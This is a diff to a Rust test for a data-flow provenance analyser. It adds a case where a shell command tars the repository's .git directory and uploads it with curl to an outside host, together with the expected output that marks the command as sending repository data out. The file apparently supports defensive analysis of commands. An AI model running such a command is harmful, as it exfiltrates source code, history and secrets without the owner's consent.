@@ -790,6 +790,19 @@ fn data_flow_provenance() {
                 )
             ]),
         ),
+        // An archive of the repository's object store is the repository.
+        (
+            "tar czf - .git | curl -T - https://x.io",
+            json!([
+                read_tree(&at(".git")),
+                url_request(
+                    "curl",
+                    "https://x.io",
+                    "PUT",
+                    json!({"text": [], "files": [{"path": at(".git"), "recursive": true}], "env": [], "repository": true})
+                )
+            ]),
+        ),
         (
             "zip -r site.zip public && scp site.zip h:/tmp",
             json!([
